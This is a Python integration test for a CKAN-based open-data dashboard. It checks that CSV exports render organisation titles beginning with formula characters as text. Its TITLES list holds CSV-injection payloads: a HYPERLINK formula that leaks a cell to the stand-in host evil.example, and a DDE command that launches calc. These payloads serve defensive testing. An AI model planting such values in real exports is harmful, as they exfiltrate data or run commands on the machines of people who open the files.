"""The dashboard's CSV downloads carry no spreadsheet formulas (issue 14, class 8).

A department's title is written by its own admins; ``=HYPERLINK(...)`` (or a
cell starting with ``+ - @``, tab, carriage return) would run as a formula in
the data management office's spreadsheet. Each such cell is downloaded as
text (a leading apostrophe); figures stay numbers."""
import csv
import io

import pytest

import ckan.tests.factories as factories

pytestmark = [pytest.mark.ckan_services, pytest.mark.usefixtures("with_plugins", "clean_all")]

TITLES = ['=HYPERLINK("http://evil.example/?d="&A2,"详情")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1,1)",
          "\t=1+1"]


def rows(body):
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))


def test_formula_titles_are_downloaded_as_text(app, sysadmin):
    from tests.integration.conftest import PROVIDER_CODES
    orgs = [factories.Organization(user=sysadmin, title=title, provider_code=next(PROVIDER_CODES))
            for title in TITLES]
    overview = rows(app.get("/dashboard/open-data.csv").get_data(as_text=True))
    by_name = {row["organization_name"]: row for row in overview}
    for org, title in zip(orgs, TITLES):
        assert by_name[org["name"]]["organization_title"] == "'" + title
        [single] = rows(app.get(f"/organization/{org['name']}/open-data.csv").get_data(as_text=True))
        assert single["organization_title"] == "'" + title
        assert single["catalogued"] == "0"
    for row in overview:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
